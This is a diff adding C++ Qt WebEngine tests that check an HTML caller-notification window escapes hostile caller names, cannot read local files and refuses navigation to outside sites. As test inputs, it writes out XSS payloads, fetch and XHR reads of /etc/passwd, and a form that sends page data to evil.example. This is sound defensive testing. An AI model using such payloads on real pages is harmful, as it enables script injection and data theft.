@@ -2,11 +2,15 @@
 #include "FakeLineManager.h"
 #include "HtmlPageLoading.h"
 #include "TestActions.h"
+#include "TraceCapture.h"
+#include "WaitUntil.h"
 #include "WindowGrab.h"
 #include "actions/ui/ActionSequenceButton.h"
+#include "actions/ui/HtmlWebSecurity.h"
 #include "actions/ui/MessageWindows.h"
 #include "model/ActionSequence.h"
 #include "model/OrvixLine.h"
+#include "platform/DocumentOpener.h"
 #include "platform/KestrunError.h"
 #include "rulesfile/Parameters.h"
 
@@ -120,7 +124,7 @@ TEST_F(HtmlMessageWindows, TemplatePageShowsTheCallAndIsDeletedWithTheWindow)
     EXPECT_TRUE(ReadFile(pageFile).contains("<p id=\"caller\">&lt;b&gt;x&lt;/b&gt; Meier</p>"));
     QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
     ASSERT_TRUE(WaitForLoad(loaded));
-    EXPECT_EQ(form->WebBrowser()->url(), QUrl::fromLocalFile(pageFile));
+    EXPECT_EQ(form->WebBrowser()->url(), HtmlPageFileUrl(pageFile));
     EXPECT_EQ(RunScript(*form->WebBrowser()->page(), QStringLiteral("document.getElementById('caller').textContent")),
               QVariant(QStringLiteral("<b>x</b> Meier")));
     EXPECT_TRUE(WaitUntilPainted(*form->WebBrowser()));
@@ -276,6 +280,127 @@ TEST_F(HtmlMessageWindows, FocusedPageKeepsTheWindowFromFading)
 
     form->WebBrowser()->clearFocus();
     EXPECT_TRUE(form->FadeOutActive());
+}
+
+// A caller's name that ran script from a single-quoted attribute and from a script
+// string; the page it lands in can read no local file and cannot leave the window.
+TEST_F(HtmlMessageWindows, HostileNameRunsNoScriptAndThePageReadsNoFileAndStaysInTheWindow)
+{
+    QStringList opened;
+    const TDocumentOpener previous = ReplaceDocumentOpener([&opened](const QString& document, QString*) {
+        opened << document;
+        return true;
+    });
+    const QString name = QStringLiteral("';document.title='PWN4';//\"><img src=x onerror=\"document.title='PWN3'\">");
+    TMessageWindowRequest request = Request(QStringLiteral("{H}"));
+    request.Page.Template =
+        WriteFile(QStringLiteral("message.htm"),
+                  "<html><head><title>Start</title></head><body>"
+                  "<p id='a' title='<#saOrvix Value=\"orvixCallerName\">'>Anruf</p>"
+                  "<a id='l' href='https://example.org/kunde'>Kunde</a>"
+                  "<script>var n = '<#saOrvix Value=\"orvixCallerName\">'; document.body.dataset.name = n;</script>"
+                  "<script>fetch('file:///etc/passwd').then(r => r.text()).then("
+                  "t => { document.body.dataset.read = 'read'; }, e => { document.body.dataset.read = 'refused'; });"
+                  "var x = new XMLHttpRequest(); try { x.open('GET', 'file:///etc/passwd', false); x.send();"
+                  " document.body.dataset.xhr = x.responseText.length > 0 ? 'read' : 'refused'; }"
+                  " catch (e) { document.body.dataset.xhr = 'refused'; }</script>"
+                  "</body></html>");
+    request.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=") + name};
+    ASSERT_TRUE(windows.Show(request));
+    THtmlMessageForm* form = Form(request.ActionID);
+    ASSERT_TRUE(form);
+    QWebEnginePage& page = *form->WebBrowser()->page();
+    QSignalSpy loaded(&page, &QWebEnginePage::loadFinished);
+    ASSERT_TRUE(WaitForLoad(loaded));
+    const QUrl home = HtmlPageFileUrl(form->TemplateFile());
+    EXPECT_EQ(page.url(), home);
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.title")), QVariant(QStringLiteral("Start")));
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.getElementById('a').title")), QVariant(name));
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.body.dataset.name")), QVariant(name));
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.images.length")), QVariant(0));
+    std::optional<QVariant> read;
+    EXPECT_TRUE(WaitUntil(
+        [&] {
+            read = RunScript(page, QStringLiteral("document.body.dataset.read"));
+            return read && read->toString() != QString();
+        },
+        PageWaitMs));
+    EXPECT_EQ(read, QVariant(QStringLiteral("refused")));
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.body.dataset.xhr")), QVariant(QStringLiteral("refused")));
+
+    // The engine itself keeps a page of this scheme from file:// addresses; a page
+    // on the web is refused by the window.
+    TraceCapture trace;
+    RunScript(page, QStringLiteral("location.href = 'file:///etc/passwd'; 1"));
+    RunScript(page,
+              QStringLiteral("var f = document.createElement('form'); f.method = 'post';"
+                             "f.action = 'https://evil.example/?' + document.title;"
+                             "document.body.appendChild(f); f.submit(); 1"));
+    EXPECT_TRUE(WaitUntil([&] { return trace.Has(QStringLiteral("HtmlMessageForm::Navigate:Navigation refused")); },
+                          PageWaitMs));
+    EXPECT_EQ(trace.LastValue("HtmlMessageForm::Navigate:Navigation refused"),
+              QStringLiteral("https://evil.example/?Start"));
+    RunScript(page, QStringLiteral("document.getElementById('l').click(); 1"));
+    EXPECT_TRUE(WaitUntil([&] { return !opened.isEmpty(); }, PageWaitMs));
+    EXPECT_EQ(opened, QStringList {"https://example.org/kunde"});
+    EXPECT_EQ(page.url(), home);
+    EXPECT_EQ(RunScript(page, QStringLiteral("document.title")), QVariant(QStringLiteral("Start")));
+    ReplaceDocumentOpener(previous);
+}
+
+TEST_F(HtmlMessageWindows, TheShippedDemoTemplateShowsTheCall)
+{
+    TMessageWindowRequest request = Request(QStringLiteral("{D}"));
+    request.Page.Template = QStringLiteral(KESTRUN_TEST_DATA "/../../tools/demo/kundenkarte.htm");
+    request.Page.ResultList = QStringList {QStringLiteral("saOrvix_orvixCallerName=Anna O'Berg"),
+                                           QStringLiteral("saUserParam_Firma=Berg & Söhne")};
+    ASSERT_TRUE(windows.Show(request));
+    THtmlMessageForm* form = Form(request.ActionID);
+    ASSERT_TRUE(form);
+    QSignalSpy loaded(form->WebBrowser()->page(), &QWebEnginePage::loadFinished);
+    ASSERT_TRUE(WaitForLoad(loaded));
+    EXPECT_EQ(RunScript(*form->WebBrowser()->page(), QStringLiteral("document.title")),
+              QVariant(QStringLiteral("Kundenkarte")));
+    const QString text = PageText(*form).value_or(QVariant()).toString();
+    EXPECT_TRUE(text.contains(QStringLiteral("Anna O'Berg"))) << text.toStdString();
+    EXPECT_TRUE(text.contains(QStringLiteral("Berg & Söhne"))) << text.toStdString();
+}
+
+TEST(HtmlNavigation, OnlyTheWindowsOwnPageLoadsAndWebLinksGoToTheBrowser)
+{
+    using Page = QWebEnginePage;
+    const QUrl filled = HtmlPageFileUrl(QStringLiteral("/data/{0}.HTMLTemplate.htm"));
+    const QUrl site(QStringLiteral("https://crm.example/karte"));
+    const struct
+    {
+        const char* target;
+        Page::NavigationType type;
+        bool mainFrame;
+        QUrl home;
+        THtmlNavigation expected;
+    } cases[] = {
+        {"kestrun-page:{0}.HTMLTemplate.htm", Page::NavigationTypeTyped, true, filled, THtmlNavigation::Allow},
+        {"kestrun-page:{0}.HTMLTemplate.htm", Page::NavigationTypeReload, true, filled, THtmlNavigation::Allow},
+        {"file:///etc/passwd", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
+        {"file:///etc/passwd", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::Refuse},
+        {"file:///etc/passwd", Page::NavigationTypeOther, false, filled, THtmlNavigation::Refuse},
+        {"kestrun-page:{1}.HTMLTemplate.htm", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
+        {"https://evil.example/?x", Page::NavigationTypeOther, true, filled, THtmlNavigation::Refuse},
+        {"https://evil.example/?x", Page::NavigationTypeFormSubmitted, true, filled, THtmlNavigation::Refuse},
+        {"https://example.org/", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::OpenInBrowser},
+        {"https://example.org/widget", Page::NavigationTypeOther, false, filled, THtmlNavigation::Allow},
+        {"about:blank", Page::NavigationTypeOther, false, filled, THtmlNavigation::Allow},
+        {"javascript:alert(1)", Page::NavigationTypeLinkClicked, true, filled, THtmlNavigation::Refuse},
+        {"https://crm.example/karte", Page::NavigationTypeTyped, true, site, THtmlNavigation::Allow},
+        {"https://crm.example:443/liste", Page::NavigationTypeLinkClicked, true, site, THtmlNavigation::Allow},
+        {"https://login.example/sso", Page::NavigationTypeRedirect, true, site, THtmlNavigation::Allow},
+        {"https://other.example/", Page::NavigationTypeLinkClicked, true, site, THtmlNavigation::OpenInBrowser},
+        {"file:///etc/passwd", Page::NavigationTypeOther, true, site, THtmlNavigation::Refuse},
+    };
+    for (const auto& c : cases) {
+        EXPECT_EQ(DecideHtmlNavigation(QUrl(QString::fromLatin1(c.target)), c.type, c.mainFrame, c.home), c.expected)
+            << c.target << " " << int(c.type) << " " << c.mainFrame;
+    }
 }
 
 } // namespace
